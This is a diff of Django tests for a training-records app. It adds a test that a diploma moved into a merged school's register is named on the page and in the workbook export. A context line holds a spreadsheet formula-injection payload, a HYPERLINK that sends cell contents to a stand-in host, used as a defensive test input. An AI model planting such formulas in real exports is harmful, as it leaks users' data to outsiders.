@@ -12,6 +12,7 @@ from django.urls import reverse
 
 from daotao.cohorts.models import Enrollment
 from daotao.demo import teaching_data as td
+from daotao.grading.models import Credential, register_note
 from daotao.lib import xlsx
 from daotao.people.privacy import mask_national_id
 from daotao.records.export import class_rows
@@ -164,6 +165,16 @@ class RecordPageTests(RecordWorld):
         self.assertEqual(list(book["TuyenSinh"].iter_rows(min_row=2, max_col=1, values_only=True)), [(2019,)])
         career = list(book["CongTac"].iter_rows(min_row=2, values_only=True))
         self.assertEqual([row[2:] for row in career], [("245/QĐ-UBND", "Phó Chủ tịch UBND phường Phú Mỹ")])
+
+    def test_a_credential_of_a_merged_schools_register_is_named(self):
+        """Issue 23: her diploma moved, as the merge would write it, into another register."""
+        merged = "Trường Chính trị tỉnh Bình Phước"
+        credential = training_record(self.student, self.office).credentials[0]
+        Credential.objects.filter(pk=credential.pk).update(register=merged)
+        self.assertContains(self.page(self.office), register_note(merged), count=1)
+        _response, book = self.workbook(self.office)
+        rows = list(book["LopHoc"].iter_rows(min_row=2, values_only=True))
+        self.assertEqual(rows[0][9], f"Bằng tốt nghiệp TC 000028 ({register_note(merged)})")
 
     def test_a_formula_typed_as_a_name_stays_text(self):
         self.student.set_name('=HYPERLINK("http://x.test/?"&A1,"An")')
